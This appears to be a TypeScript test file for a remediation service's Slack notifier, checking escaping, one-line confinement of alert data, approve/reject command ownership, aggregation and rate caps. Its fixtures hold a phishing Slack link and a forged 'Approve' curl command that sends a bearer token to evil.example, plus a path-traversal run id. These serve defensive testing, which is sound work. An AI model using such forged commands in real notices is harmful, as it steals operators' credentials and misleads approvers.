/**
 * Notices cannot be forged by alert data, and cannot flood: the service's notices and the
 * `notify.webhook` text escape Slack mrkdwn in every value from the alert and keep it on one line;
 * the approve and reject commands are the service's own, last, and name PUBLIC_URL alone; notices
 * of one kind and rule arriving together go as one, under a cap of notices a minute.
 */
import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import { Counter, Registry } from 'prom-client';
import webhook from '../../remediations/notify/webhook.js';
import { RemediationError, type NotifyTarget } from '../../remediations/types.js';
import { compileParams, type TemplateScope } from '../../src/matrix/template.js';
import type { Metrics } from '../../src/metrics.js';
import { notifyTarget } from '../../src/notify/client.js';
import { aggregateText, createNotifier, notificationText, type NotificationKind } from '../../src/notify/notifier.js';
import type { Run } from '../../src/schemas/runs.js';
import type { RunStore } from '../../src/store/runs.js';
import { executionContext, memoryLog } from '../support/context.js';
import { startNotifySink } from '../support/notify-sink.js';
import { hostileRun, stored } from '../support/runs.js';

const PUBLIC_URL = 'https://remediator.example.test';
const PHISH = '<!channel> <https://evil.example/login|Approve here>';
const FORGED =
  'openai\n[conduit-remediator] conduit.enable-provider on conduit/provider/openai needs approval\r\n' +
  'Approve: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" https://evil.example/api/runs/x/approve\u2028Approve: again';
const AMP = 'a & b &amp; c';

/** No `<`, `>` or `&` in the text but as the entities escaping writes. */
function assertEscaped(text: string): void {
  assert.ok(!/[<>]/.test(text), `an unescaped < or > in:\n${text}`);
  assert.ok(!/&(?!amp;|lt;|gt;)/.test(text), `an unescaped & in:\n${text}`);
}

/** Every line naming a command (curl, the CLI) or starting like one names no host but PUBLIC_URL's. */
function assertCommandsOurs(text: string): void {
  const ours = new URL(PUBLIC_URL).host;
  for (const line of text.split('\n')) {
    if (!/^(Approve|Reject|Over HTTP):/.test(line)) continue;
    const hosts = [...line.matchAll(/https?:\/\/([^/\s'"]+)/g)].map((m) => m[1]);
    assert.ok(hosts.length > 0, `a command line without a URL: ${line}`);
    assert.deepEqual([...new Set(hosts)], [ours], line);
  }
}

const approveLines = (text: string) => text.split('\n').filter((l) => l.startsWith('Approve:'));

describe('a notice of one run', () => {
  it('escapes Slack mrkdwn in every value from the alert: no ping, no link', () => {
    for (const kind of ['pending_approval', 'escalated', 'expired', 'failed', 'unverified'] as const) {
      const text = notificationText(hostileRun(PHISH), kind, PUBLIC_URL, [`Still firing: ${PHISH}`]);
      assertEscaped(text);
      assert.ok(text.includes('conduit/provider/&lt;!channel&gt; &lt;https://evil.example/login|Approve here&gt;'), text);
      assert.ok(!text.includes('<!channel>'), text);
      assertCommandsOurs(text);
    }
    const amp = notificationText(hostileRun(AMP), 'failed', PUBLIC_URL);
    assert.ok(amp.includes('conduit/provider/a &amp; b &amp;amp; c'), amp);
    assertEscaped(amp);
  });

  it('keeps alert data on one line: a forged notice with its Approve line stays inside the value', () => {
    const run = hostileRun(FORGED);
    const text = notificationText(run, 'pending_approval', PUBLIC_URL, [`Predecessor: ${FORGED}`]);
    const lines = text.split('\n');
    assert.equal(lines.filter((l) => l.startsWith('[conduit-remediator]')).length, 1, text);
    assert.deepEqual(approveLines(text), [
      `Approve: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" -H 'Content-Type: application/json' -d '{}' ${PUBLIC_URL}/api/runs/${run.id}/approve`,
    ]);
    // The commands are the last two lines, the service's own.
    assert.match(lines.at(-2)!, new RegExp(`^Approve: curl .* ${PUBLIC_URL}/api/runs/${run.id}/approve$`));
    assert.match(lines.at(-1)!, new RegExp(`^Reject: {2}curl .* ${PUBLIC_URL}/api/runs/${run.id}/reject$`));
    assert.ok(lines.every((l) => !/evil\.example/.test(l) || !/^(Approve|Reject|Over HTTP):/.test(l)));
    assert.ok(!/[\r\u2028\u2029]/.test(text));
    // The value is still readable, on the line it belongs to.
    assert.ok(lines[0]!.includes('conduit/provider/openai [conduit-remediator] conduit.enable-provider'), lines[0]);
    assertCommandsOurs(text);
  });

  it('writes no command for a run id that is not a UUID', () => {
    const text = notificationText(
      hostileRun('openai', { id: `x/../../evil https://evil.example/api/runs/y` }),
      'pending_approval',
      PUBLIC_URL,
    );
    assert.ok(!text.includes('/approve'), text);
    assert.ok(!text.includes('curl'), text);
    assert.deepEqual(approveLines(text), []);
  });

  it('a trailing slash on PUBLIC_URL does not double in the commands', () => {
    const run = hostileRun('openai');
    const text = notificationText(run, 'pending_approval', `${PUBLIC_URL}/`);
    assert.ok(text.includes(` ${PUBLIC_URL}/api/runs/${run.id}/approve`), text);
  });
});

describe('a notice listing several runs', () => {
  const runs = Array.from({ length: 25 }, (_, i) => hostileRun(i % 2 ? PHISH : FORGED, { rule: 'provider down&up' }));
  const entries = runs.map((run) => ({ run, context: [`Predecessor: ${FORGED}`] }));

  it('names the first 20 with their approve command, counts the rest and says where they are', () => {
    const text = aggregateText(entries, 'pending_approval', PUBLIC_URL);
    const lines = text.split('\n');
    assert.equal(lines[0], '[conduit-remediator] 25 runs of rule provider down&amp;up need approval');
    for (const run of runs.slice(0, 20)) assert.ok(text.includes(`• Run ${run.id}: `), run.id);
    for (const run of runs.slice(20)) assert.ok(!text.includes(run.id), run.id);
    // `&amp;`: Slack shows (and copies) it as `&`.
    assert.ok(lines.includes(`And 5 more: GET ${PUBLIC_URL}/api/runs?status=pending_approval&amp;rule=provider%20down%26up`), text);
    assert.deepEqual(
      approveLines(text),
      runs.slice(0, 20).map((r) => `Approve: remediator approve ${r.id} --url ${PUBLIC_URL}`),
    );
    // Commands last: nothing after the first Approve line but commands.
    const first = lines.findIndex((l) => l.startsWith('Approve:'));
    assert.ok(
      lines.slice(first).every((l) => /^(Approve|Reject|Over HTTP):/.test(l)),
      text,
    );
    assertCommandsOurs(text);
    assertEscaped(text);
  });

  it('failures list their errors, escaped, and carry no approve command', () => {
    const text = aggregateText(entries.slice(0, 3), 'failed', PUBLIC_URL);
    assert.match(text, /^\[conduit-remediator\] 3 runs of rule provider down&amp;up failed\n/);
    assert.ok(text.includes('    Error: Conduit has no provider "&lt;!channel&gt; &lt;https://evil.example/login|Approve here&gt;"'), text);
    assert.ok(!text.includes('remediator approve') && !text.includes('Over HTTP'), text);
    assert.ok(!text.includes(`${PUBLIC_URL}/api/runs/`), text);
    assert.deepEqual(approveLines(text), []);
    assertEscaped(text);
  });
});

describe('notify.webhook text templated from the alert', () => {
  const scope = (labels: Record<string, string>, annotations: Record<string, string> = {}): TemplateScope => ({
    labels,
    annotations,
    alert: { fingerprint: 'f', startsAt: 's', status: 'firing' },
  });
  const render = compileParams(
    { text: '<!here> Provider {{ labels.provider }} down: {{ annotations.summary }} & more', other: '<{{ labels.provider }}>' },
    { textParams: webhook.textParams! },
  );

  it('the remediation declares its text as Slack text', () => {
    assert.deepEqual(webhook.textParams, { text: 'slack' });
  });

  it("escapes what comes from the alert, keeps the author's own <!here>, and touches no other param", () => {
    const out = render(scope({ provider: PHISH }, { summary: FORGED }));
    assert.equal(
      out['text'],
      '<!here> Provider &lt;!channel&gt; &lt;https://evil.example/login|Approve here&gt; down: ' +
        'openai [conduit-remediator] conduit.enable-provider on conduit/provider/openai needs approval ' +
        'Approve: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" https://evil.example/api/runs/x/approve Approve: again & more',
    );
    assert.equal(out['other'], `<${PHISH}>`, 'a param not declared as text is rendered as it is');
    assert.equal(render(scope({ provider: AMP }))['text'], '<!here> Provider a &amp; b &amp;amp; c down:  & more');
  });

  it('without textParams the template renders values as they are', () => {
    const plain = compileParams({ text: '{{ labels.provider }}' });
    assert.equal(plain(scope({ provider: PHISH }))['text'], PHISH);
  });

  it('escaped text is what a notify sink receives', async (t) => {
    const sink = await startNotifySink();
    t.after(() => sink.close());
    const text = render(scope({ provider: PHISH }, { summary: FORGED }))['text'] as string;
    await webhook.execute({ text }, executionContext({ notify: notifyTarget(sink.url) }));
    assert.equal(sink.messages.length, 1);
    const received = sink.messages[0]!.text;
    assert.equal(received, text);
    assert.ok(received.startsWith('<!here> Provider &lt;!channel&gt;'), received);
    assertEscaped(received.replace(/^<!here>/, '').replace(/ & more$/, ''));
    assert.equal(received.split('\n').length, 1, 'the forged lines stay on the one line');
  });
});

/** A run store that keeps the events the notifier writes. */
function eventStore() {
  const events: Array<{ id: string; type: string; detail: Record<string, unknown> }> = [];
  const runs = {
    addEvent: async (id: string, type: string, detail: Record<string, unknown> = {}) => {
      events.push({ id, type, detail });
    },
  } as unknown as RunStore;
  return { runs, events, of: (type: string) => events.filter((e) => e.type === type) };
}

function counter() {
  const registry = new Registry();
  const notifications = new Counter({ name: 'n_total', help: 'h', labelNames: ['result'] as const, registers: [registry] });
  const metrics = { notifications } as Pick<Metrics, 'notifications'>;
  const value = async (result: string) => (await notifications.get()).values.find((v) => v.labels.result === result)?.value ?? 0;
  return { metrics, value };
}

function pending(rule: string, i: number): Run {
  return stored({
    rule,
    target: `test/${i}`,
    status: 'pending_approval',
    approval: { required: true, expiresAt: null, decidedBy: null, decidedAt: null, comment: null },
  });
}

/** A notifier posting to a real sink, with its timeline events and metrics recorded. */
async function setup(t: TestContext, opts: { windowMs?: number; maxPerMinute?: number } = {}) {
  const sink = await startNotifySink();
  t.after(() => sink.close());
  const store = eventStore();
  const count = counter();
  const notifier = createNotifier({
    target: notifyTarget(sink.url),
    runs: store.runs,
    log: memoryLog(),
    publicUrl: PUBLIC_URL,
    metrics: count.metrics,
    ...opts,
  });
  t.after(() => notifier.drain());
  return { sink, store, count, notifier };
}

describe('the notifier', () => {
  it('posts escaped text to the sink, and records notified', async (t) => {
    const { sink, store, notifier } = await setup(t);
    const run = hostileRun(PHISH);
    notifier.notify(run, 'pending_approval');
    await notifier.drain();
    assert.equal(sink.messages.length, 1);
    const text = sink.messages[0]!.text;
    assertEscaped(text);
    assertCommandsOurs(text);
    assert.deepEqual(store.events, [{ id: run.id, type: 'notified', detail: { kind: 'pending_approval' } }]);
  });

  it('2,000 pending approvals of one rule: the first at once, the rest as one notice listing them', async (t) => {
    const { sink, store, count, notifier } = await setup(t, { windowMs: 300 });
    const runs = Array.from({ length: 2000 }, (_, i) => pending('flood', i));
    for (const run of runs) notifier.notify(run, 'pending_approval');
    await eventuallyTrue(() => sink.messages.length >= 1);
    assert.equal(sink.messages.length, 1, 'the first notice goes at once');
    assert.ok(sink.messages[0]!.text.includes(runs[0]!.id));
    await eventuallyTrue(() => store.of('notified').length === 2000, 5000);
    assert.equal(sink.messages.length, 2, sink.messages.map((m) => m.text.slice(0, 200)).join('\n---\n'));
    const listing = sink.messages[1]!.text;
    assert.ok(listing.startsWith('[conduit-remediator] 1999 runs of rule flood need approval\n'), listing.slice(0, 200));
    for (const run of runs.slice(1, 21)) assert.ok(listing.includes(`Approve: remediator approve ${run.id} --url ${PUBLIC_URL}`));
    assert.ok(listing.includes(`And 1979 more: GET ${PUBLIC_URL}/api/runs?status=pending_approval&amp;rule=flood`), listing);
    assert.ok(listing.length < 12_000, `a notice of ${listing.length} characters`);
    assert.deepEqual(new Set(store.of('notified').map((e) => e.id)), new Set(runs.map((r) => r.id)));
    assert.equal(store.of('notified').filter((e) => e.detail['runs'] === 1999).length, 1999);
    assert.equal(await count.value('sent'), 1);
    assert.equal(await count.value('aggregated'), 1999);
    assert.equal(await count.value('dropped'), 0);
  });

  it('folds per kind and rule: another rule or another kind is a notice of its own', async (t) => {
    const { sink, notifier } = await setup(t, { windowMs: 200 });
    const kinds: Array<[string, NotificationKind]> = [
      ['a', 'pending_approval'],
      ['b', 'pending_approval'],
      ['a', 'failed'],
    ];
    for (const [rule, kind] of kinds) for (let i = 0; i < 3; i++) notifier.notify(pending(rule, i), kind);
    await eventuallyTrue(() => sink.messages.length === 6, 3000);
    await new Promise((r) => setTimeout(r, 300));
    const heads = sink.messages.map((m) => m.text.split('\n')[0]!).sort();
    assert.deepEqual(heads.filter((h) => h.includes(' runs of rule ')).sort(), [
      '[conduit-remediator] 2 runs of rule a failed',
      '[conduit-remediator] 2 runs of rule a need approval',
      '[conduit-remediator] 2 runs of rule b need approval',
    ]);
    assert.equal(sink.messages.length, 6);
  });

  it('drain posts what a window holds', async (t) => {
    const { sink, store, notifier } = await setup(t, { windowMs: 60_000 });
    for (let i = 0; i < 4; i++) notifier.notify(pending('slow', i), 'failed');
    await eventuallyTrue(() => sink.messages.length === 1);
    await notifier.drain();
    assert.equal(sink.messages.length, 2);
    assert.match(sink.messages[1]!.text, /^\[conduit-remediator\] 3 runs of rule slow failed\n/);
    assert.equal(store.of('notified').length, 4);
  });

  it('over the cap a minute, notices are dropped and counted, and one notice says how many', async (t) => {
    t.mock.timers.enable({ apis: ['setTimeout', 'Date'] });
    const posts: string[] = [];
    const target: NotifyTarget = { post: async (text) => (posts.push(text), { status: 200 }) };
    const store = eventStore();
    const count = counter();
    const notifier = createNotifier({
      target,
      runs: store.runs,
      log: memoryLog(),
      publicUrl: PUBLIC_URL,
      metrics: count.metrics,
      windowMs: 1000,
      maxPerMinute: 3,
    });
    const runs = Array.from({ length: 5 }, (_, i) => pending(`rule-${i}`, i));
    for (const run of runs) notifier.notify(run, 'failed');
    await settle();
    assert.equal(posts.length, 3);
    assert.deepEqual(
      store.of('notification_dropped').map((e) => [e.id, e.detail]),
      runs.slice(3).map((r) => [r.id, { kind: 'failed', reason: 'rate_limited', maxPerMinute: 3 }]),
    );
    assert.equal(await count.value('dropped'), 2);
    assert.equal(await count.value('sent'), 3);

    t.mock.timers.tick(30_000);
    await settle();
    assert.equal(posts.length, 3, 'nothing more inside the minute');
    t.mock.timers.tick(31_000);
    await settle();
    assert.equal(posts.length, 4);
    assert.equal(
      posts[3],
      [
        '[conduit-remediator] 2 notices (about 2 runs) dropped: over the cap of 3 notices a minute',
        `Waiting for approval: GET ${PUBLIC_URL}/api/runs?status=pending_approval`,
        `Failed: GET ${PUBLIC_URL}/api/runs?status=failed`,
      ].join('\n'),
    );
    // The minute after: room again.
    notifier.notify(pending('later', 9), 'failed');
    await settle();
    assert.equal(posts.length, 5);
    await notifier.drain();
  });

  it('a webhook that fails records notification_failed for every run of the notice', async (t) => {
    const { sink, store, count, notifier } = await setup(t, { windowMs: 100 });
    sink.failNext(2, 500);
    for (let i = 0; i < 3; i++) notifier.notify(pending('broken', i), 'failed');
    await eventuallyTrue(() => store.of('notification_failed').length === 3, 3000);
    assert.equal(sink.messages.length, 0);
    assert.match(String(store.of('notification_failed')[0]!.detail['error']), /answered 500/);
    assert.equal(await count.value('failed'), 3);
  });

  it('without a webhook nothing is posted or counted', async () => {
    const store = eventStore();
    const count = counter();
    const notifier = createNotifier({
      target: undefined,
      runs: store.runs,
      log: memoryLog(),
      publicUrl: PUBLIC_URL,
      metrics: count.metrics,
    });
    notifier.notify(pending('none', 1), 'failed');
    await notifier.drain();
    assert.deepEqual(store.events, []);
    assert.equal(await count.value('sent'), 0);
  });
});

describe('the target notify.webhook runs post through', () => {
  async function setupRelay(t: TestContext, opts: { windowMs?: number; maxPerMinute?: number } = {}) {
    const set = await setup(t, opts);
    const target = set.notifier.webhookTarget()!;
    const post = (text: string, rule: string, runId: string) =>
      target.post(text, { signal: new AbortController().signal, timeoutMs: 2000, rule, runId });
    return { ...set, post };
  }

  it('the first post of a rule goes at once with its answer; those within the window go as one message listing them', async (t) => {
    const { sink, store, count, post } = await setupRelay(t, { windowMs: 300 });
    assert.deepEqual(await post('Error rate high on d0', 'high-error-rate', 'r0'), { status: 200 });
    assert.equal(sink.messages.length, 1);
    assert.equal(sink.messages[0]!.text, 'Error rate high on d0');
    const folded = await Promise.all(
      Array.from({ length: 25 }, (_, i) => post(`Error rate high on d${i + 1}`, 'high-error-rate', `r${i + 1}`)),
    );
    assert.ok(folded.every((a) => 'folded' in a));
    // Another rule has a window of its own.
    assert.deepEqual(await post('Provider openai down', 'provider-down', 'p0'), { status: 200 });
    assert.equal(sink.messages.length, 2);
    await eventuallyTrue(() => sink.messages.length === 3, 3000);
    const text = sink.messages[2]!.text;
    const lines = text.split('\n');
    assert.equal(lines[0], '[conduit-remediator] 25 notices of rule high-error-rate:');
    assert.deepEqual(
      lines.slice(1, 21),
      Array.from({ length: 20 }, (_, i) => `• Error rate high on d${i + 1}`),
    );
    assert.equal(lines[21], `And 5 more: GET ${PUBLIC_URL}/api/runs?rule=high-error-rate&amp;remediation=notify.webhook`);
    assert.equal(lines.length, 22);
    await eventuallyTrue(() => store.of('notified').length === 25);
    assert.deepEqual(
      store
        .of('notified')
        .map((e) => e.id)
        .sort(),
      Array.from({ length: 25 }, (_, i) => `r${i + 1}`).sort(),
    );
    assert.deepEqual(store.of('notified')[0]!.detail, { kind: 'webhook', runs: 25 });
    assert.equal(await count.value('sent'), 2);
    assert.equal(await count.value('aggregated'), 25);
  });

  it('a window holding one post sends its text as it is', async (t) => {
    const { sink, store, post } = await setupRelay(t, { windowMs: 100 });
    await post('first', 'r', 'a');
    assert.deepEqual(await post('second', 'r', 'b'), { folded: true });
    await eventuallyTrue(() => sink.messages.length === 2);
    assert.equal(sink.messages[1]!.text, 'second');
    await eventuallyTrue(() => store.of('notified').length === 1);
    assert.deepEqual(store.of('notified')[0], { id: 'b', type: 'notified', detail: { kind: 'webhook', runs: 1 } });
  });

  it('shares the cap of notices a minute with the service notices: over it, a post fails rate_limited and is counted in the later notice', async (t) => {
    const { sink, count, notifier, post } = await setupRelay(t, { windowMs: 50, maxPerMinute: 3 });
    notifier.notify(pending('approvals', 0), 'pending_approval');
    await post('one', 'a', 'x1');
    await post('two', 'b', 'x2');
    await eventuallyTrue(() => sink.messages.length === 3);
    await assert.rejects(post('three', 'c', 'x3'), (err: RemediationError) => {
      assert.equal(err.code, 'rate_limited');
      assert.equal(err.retryable, false);
      assert.match(err.message, /over the cap of 3 notices a minute/);
      return true;
    });
    assert.equal(sink.messages.length, 3);
    assert.equal(await count.value('dropped'), 1);
    await notifier.drain();
    // The count of dropped notices goes at shutdown.
    assert.match(
      sink.messages.at(-1)!.text,
      /^\[conduit-remediator\] 1 notice \(about 1 run\) dropped: over the cap of 3 notices a minute/,
    );
  });

  it('a folded message the webhook refuses records notification_failed in the timelines of its runs', async (t) => {
    const { sink, store, count, post } = await setupRelay(t, { windowMs: 100 });
    await post('lead', 'r', 'l');
    sink.failNext(1, 500);
    await post('f1', 'r', 'f1');
    await post('f2', 'r', 'f2');
    await eventuallyTrue(() => store.of('notification_failed').length === 2, 3000);
    assert.match(String(store.of('notification_failed')[0]!.detail['error']), /answered 500/);
    assert.equal(await count.value('failed'), 2);
  });

  it('without a webhook there is no target', () => {
    const notifier = createNotifier({ target: undefined, runs: eventStore().runs, log: memoryLog(), publicUrl: PUBLIC_URL });
    assert.equal(notifier.webhookTarget(), undefined);
  });
});

/** Lets promise chains run while timers are mocked. */
async function settle(): Promise<void> {
  for (let i = 0; i < 20; i++) await new Promise<void>((r) => setImmediate(r));
}

async function eventuallyTrue(check: () => boolean, timeoutMs = 2000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 10));
  }
}
